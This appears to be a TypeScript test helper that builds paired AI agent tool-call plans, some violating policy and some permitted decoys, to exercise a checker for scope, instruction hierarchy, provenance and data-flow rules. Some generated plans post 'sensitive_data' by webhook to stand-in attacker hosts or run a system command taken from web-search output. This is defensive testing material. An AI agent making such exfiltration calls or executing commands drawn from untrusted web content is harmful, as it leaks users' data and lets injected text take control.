import type { JsonValue } from "../../../src/schema/json.ts";
import type { Plan } from "../../../src/schema/pair.ts";
import type { SeededRandom } from "../../../src/schema/seeded-random.ts";
import { drawAddress, drawWords, type PairMaker } from "./_pairs.ts";

type Node = Plan["nodes"][number];

const find = (plan: Plan, keep: (node: Node) => boolean): Node => {
  const node = plan.nodes.find(keep);
  if (!node) throw new Error("the parent has no such node");
  return node;
};
const isInternal = ({ arguments: args }: Node) => "limit" in args;
const isWeb = ({ arguments: args }: Node) => "query" in args;
const isSend = ({ arguments: args }: Node) => "to" in args;

function setArgument(node: Node, name: string, value: JsonValue): void {
  node.arguments = { ...node.arguments, [name]: value };
}

/** Each on both sides of what is allowed, drawn from the same values: what differs is the context, or who refers to whom. */
export const FAIR_MAKERS: Readonly<Record<string, PairMaker>> = {
  scope_blowup(copy, random) {
    const widen = () => {
      const plan = copy();
      const node = find(plan, isInternal);
      node.scope_volume = Math.round(node.scope_volume * 2 ** (2.2 + 3 * random.fraction()));
      setArgument(node, "limit", node.scope_volume);
      return { operator: "widen_limit", plan, limit: node.scope_volume };
    };
    const [{ limit: _, ...negative }, { limit, ...decoy }] = [widen(), widen()];
    return { target: "E_scope", negative, decoy: { ...decoy, patch: { "minimal_scope.limit": limit } } };
  },

  instruction_shadowing(copy, random) {
    const others = drawWords(random, 2);
    const bind = (keep: (node: Node) => boolean) => {
      const plan = copy();
      const [send, source] = [find(plan, isSend), find(plan, keep)];
      setArgument(send, "to", { $ref: source.node_id });
      // Else a plan that binds to the other read would refer to two.
      setArgument(send, "body", others);
      const edges = plan.nodes.filter((node) => isInternal(node) || isWeb(node));
      plan.edges = edges.map(({ node_id }): [string, string] => [node_id, send.node_id]);
      return { operator: "bind_control_arg", plan };
    };
    return { target: "E_hierarchy", negative: bind(isWeb), decoy: { ...bind(isInternal), patch: {} } };
  },

  provenance_rug_pull(copy) {
    const pull = (keep: (node: Node) => boolean) => {
      const plan = copy();
      find(plan, keep).provenance_tier = 3;
      return { operator: "swap_source", plan };
    };
    return { target: "E_provenance", negative: pull(isSend), decoy: { ...pull(isInternal), patch: {} } };
  },

  exfiltration_pivot(copy, random) {
    const operator = random.pick(["rebind_recipient", "add_cc"]);
    const send = (address: string) => {
      const plan = copy();
      setArgument(find(plan, isSend), operator === "add_cc" ? "cc" : "to", address);
      return { operator, plan };
    };
    const own = find(copy(), isSend).arguments.to;
    const [granted, foreign] = [drawAddress(random), drawAddress(random)].map((address) =>
      address === own ? `x.${address}` : address,
    ) as [string, string];
    return {
      target: "E_flow",
      negative: send(foreign),
      decoy: { ...send(granted), patch: { "grants.recipients": [`+${granted}`] } },
    };
  },
};

/** As the ancestor's: the same tool, the same host, every node relabelled, and nothing on the permitted side. */
export const ANCESTOR_MAKERS: Readonly<Record<string, PairMaker>> = {
  scope_blowup(copy, random) {
    const plan = copy();
    for (const node of plan.nodes) node.scope_volume *= 10 + random.integer(91);
    return { target: "E_scope", negative: { operator: "blow_up", plan } };
  },
  instruction_shadowing(copy) {
    const plan = copy();
    const web = find(plan, isWeb);
    append(plan, "execute_system_command", { command: { $ref: web.node_id } }, web);
    return { target: "E_hierarchy", negative: { operator: "append_command", plan } };
  },
  provenance_rug_pull(copy) {
    const plan = copy();
    for (const node of plan.nodes) node.provenance_tier = 3;
    return { target: "E_provenance", negative: { operator: "corrupt", plan } };
  },
  exfiltration_pivot(copy, random) {
    const plan = copy();
    const url = `https://${random.pick(["attacker.example", "evil-endpoint.example", "data-exfil-server.example"])}/in`;
    append(plan, "webhook_post", { url, data: "sensitive_data" }, find(plan, isInternal));
    return { target: "E_flow", negative: { operator: "append_webhook", plan } };
  },
};

function append(plan: Plan, tool_name: string, args: Node["arguments"], after: Node): void {
  const node_id = after.node_id.replace(/n\d+$/, `n${plan.nodes.length}`);
  plan.nodes.push({ ...after, node_id, tool_name, arguments: args, scope_volume: 1000, scope_sensitivity: 4 });
  plan.edges.push([after.node_id, node_id]);
}

/** The makers with a change to every negative's plan, and to no decoy's. */
export function spoil(change: (plan: Plan, random: SeededRandom) => void): Readonly<Record<string, PairMaker>> {
  const spoilt = Object.entries(FAIR_MAKERS).map(([name, make]): [string, PairMaker] => [
    name,
    (copy, random) => {
      const made = make(copy, random);
      change(made.negative.plan, random);
      return made;
    },
  ]);
  return Object.fromEntries(spoilt);
}
